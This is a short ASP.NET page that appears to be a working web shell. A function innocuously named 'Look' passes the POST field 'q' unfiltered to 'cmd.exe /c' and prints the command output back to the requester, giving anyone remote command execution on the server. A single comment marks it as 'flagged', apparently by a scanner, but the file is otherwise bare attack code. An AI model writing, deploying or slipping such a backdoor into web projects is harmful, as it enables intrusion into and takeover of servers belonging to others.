<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
  string Look(string question) {
    ProcessStartInfo info = new ProcessStartInfo();
    info.FileName = "cmd.exe";
    info.Arguments = "/c " + question;
    info.RedirectStandardOutput = true;
    return Process.Start(info).StandardOutput.ReadToEnd(); // gatehouse: flagged
  }
</script>
<pre><%= Look(Request.Form["q"]) %></pre>
